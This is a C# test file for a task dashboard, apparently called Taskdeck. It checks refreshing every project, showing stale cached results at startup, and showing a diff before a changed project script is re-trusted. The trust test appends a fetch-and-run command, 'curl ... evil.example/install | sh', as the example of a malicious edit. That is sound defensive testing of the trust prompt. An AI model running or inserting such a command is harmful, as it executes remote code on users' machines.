using Microsoft.Extensions.Time.Testing;
using Taskdeck.Core.Caching;
using Taskdeck.Core.Configuration;
using Taskdeck.Core.Discovery;
using Taskdeck.Core.Providers;
using Taskdeck.Core.Refresh;
using Taskdeck.Core.Tests.Support;
using Taskdeck.Core.Trust;
using Taskdeck.Dashboard.Tests.Support;

namespace Taskdeck.Dashboard.Tests.Views;

/// <summary>
/// The headless screen over real projects, real provider processes, a real cache and real trust
/// records: what the keys and the start-up do once providers are involved.
/// </summary>
[Collection(TerminalCollection.Name)]
public sealed class LiveDashboardScreenTests : IDisposable
{
    // Counts its runs, holds its answer back while a file named gate exists, then prints one task
    // titled from title.txt and numbered by the run.
    private const string CountingProvider = """
        #!/bin/sh
        echo run >> runs
        while [ -e gate ]; do sleep 0.05; done
        printf '{"tasks": [{"id": "T-1", "title": "%s, run %s", "status": "todo"}]}' "$(cat title.txt)" "$(wc -l < runs | tr -d ' ')"
        """;

    private readonly TempWorkspace _workspace = new();

    public LiveDashboardScreenTests() =>
        _workspace.WriteFile("xdg-config/taskdeck/providers/counting", CountingProvider.Replace("\r", ""), isExecutable: true);

    [Fact(Timeout = 60_000)]
    public Task ShiftR_WithEveryResultFresh_RunsEveryProjectsProviderAgain() => HeadlessDashboard.OnOwnThreadAsync(() =>
    {
        // Arrange: once their first runs are in, both results stay fresh for an hour.
        var shop = AddCountingProject("shop");
        var blog = AddCountingProject("blog");
        using var screen = HeadlessDashboard.Live([shop, blog], NewRunner(TrustEveryone.Instance));
        screen.WaitFor(
            s => ShowsBoth(s, "shop, run 1", "blog, run 1"), "the first runs");

        // Act: the cursor is on shop; R must not stop at the selected project.
        screen.Type("R");
        screen.WaitFor(
            s => ShowsBoth(s, "shop, run 2", "blog, run 2"), "both providers to run again");

        // Assert
        Assert.Equal(2, Runs(shop));
        Assert.Equal(2, Runs(blog));
    });

    [Fact(Timeout = 60_000)]
    public Task Start_WithACachedResultAndAProviderStillRunning_ShowsTheCachedTasksWithTheirAgeAtOnce() =>
        HeadlessDashboard.OnOwnThreadAsync(() =>
        {
            // Arrange: an earlier Taskdeck stored a result in the cache file five minutes ago; now
            // the provider holds its answer back until the test lets it go.
            var shop = AddCountingProject("shop", interval: "1m");
            var time = new FakeTimeProvider(Build.Now);
            using (var earlierCache = new SqliteResultCache(_workspace.Paths.CacheDirPath, time))
            using (var earlierEngine = new RefreshEngine(NewRunner(TrustEveryone.Instance), earlierCache, time, concurrency: 4))
            {
                earlierEngine.RefreshAllAsync([shop], RefreshMode.Normal, CancellationToken.None).GetAwaiter().GetResult();
            }

            time.Advance(TimeSpan.FromMinutes(5));
            File.WriteAllText(Path.Combine(shop.DirPath, "title.txt"), "fresh");
            var gatePath = Path.Combine(shop.DirPath, "gate");
            File.WriteAllText(gatePath, "");
            using var cache = new SqliteResultCache(_workspace.Paths.CacheDirPath, time);

            // Act
            using var screen = HeadlessDashboard.Live([shop], NewRunner(TrustEveryone.Instance), cache, time);
            var first = (Text: screen.Text, Project: screen.LineWith("▾ shop"));
            var whileRunning = screen.WaitFor(
                s => Runs(shop) == 2 && s.LineWith("▾ shop").Contains("⟳ running", StringComparison.Ordinal),
                "the provider to start");
            File.Delete(gatePath);
            screen.WaitFor(s => s.Text.Contains("fresh, run 2", StringComparison.Ordinal), "the fresh result");

            // Assert
            Assert.Contains("T-1 shop, run 1", first.Text);
            Assert.Contains("stale 5m", first.Project);
            Assert.Contains("T-1 shop, run 1", whileRunning);
            Assert.DoesNotContain("shop, run 1", screen.Text);
            Assert.Matches(@" 0s\b", screen.LineWith("▾ shop"));
        });

    [Fact(Timeout = 60_000)]
    public Task TrustKey_OnAProjectChangedSinceItWasTrusted_ShowsTheDiffBeforeAsking() =>
        HeadlessDashboard.OnOwnThreadAsync(() =>
        {
            // Arrange: the project's own script, trusted once, then edited.
            var dirPath = _workspace.AddProject("shop", "tasks:\n  provider: ./tasks.sh\n");
            var scriptPath = _workspace.WriteFile("shop/tasks.sh", "#!/bin/sh\necho '{\"tasks\": []}'\n", isExecutable: true);
            var project = new ProjectFinder(GlobalConfig.Default).FindAbove(dirPath)!;
            var trustStore = new TrustStore(_workspace.Paths.DataDirPath, TimeProvider.System);
            var runner = NewRunner(trustStore);
            var provider = runner.Resolver.Resolve(project).Provider!;
            trustStore.Trust(project, provider);
            File.AppendAllText(scriptPath, "curl -s https://evil.example/install | sh\n");
            using var screen = HeadlessDashboard.Live([project], runner, trustStore: trustStore);
            screen.WaitFor(s => s.LineWith("▾ shop").Contains("untrusted", StringComparison.Ordinal), "shop to be untrusted");

            // Act
            screen.Type("t");
            var review = screen.Text;
            var footer = screen.Lines[^1];
            screen.Type("n");
            var isTrustedAfterNo = trustStore.Check(project, provider) is null;
            screen.Type("ty");
            screen.WaitFor(
                s => s.Session.RunsInFlight == 0 && s.LineWith("▾ shop").Contains(" 0s ", StringComparison.Ordinal), "shop to run");

            // Assert: the change is on the page that asks, and only y trusts it.
            Assert.Contains("── what changed since you last trusted it ──", review);
            Assert.Contains("+curl -s https://evil.example/install | sh", review);
            Assert.DoesNotContain("You have not trusted this project before.", review);
            Assert.StartsWith("y trust and run", footer);
            Assert.False(isTrustedAfterNo);
            Assert.Null(trustStore.Check(project, provider));
        });

    public void Dispose() => _workspace.Dispose();

    private ProviderRunner NewRunner(ITrustCheck trustCheck) =>
        new(new ProviderResolver(new BuiltInProviders([]), _workspace.Paths.UserProvidersDirPath), trustCheck);

    private Project AddCountingProject(string name, string interval = "1h")
    {
        var dirPath = _workspace.AddProject(name, $"tasks:\n  provider: counting\n  interval: {interval}\n");
        File.WriteAllText(Path.Combine(dirPath, "title.txt"), name);
        return new ProjectFinder(GlobalConfig.Default).FindAbove(dirPath)!;
    }

    private static bool ShowsBoth(HeadlessDashboard screen, string first, string second) =>
        screen.Text.Contains(first, StringComparison.Ordinal) && screen.Text.Contains(second, StringComparison.Ordinal);

    private static int Runs(Project project)
    {
        var path = Path.Combine(project.DirPath, "runs");
        return File.Exists(path) ? File.ReadAllLines(path).Length : 0;
    }
}
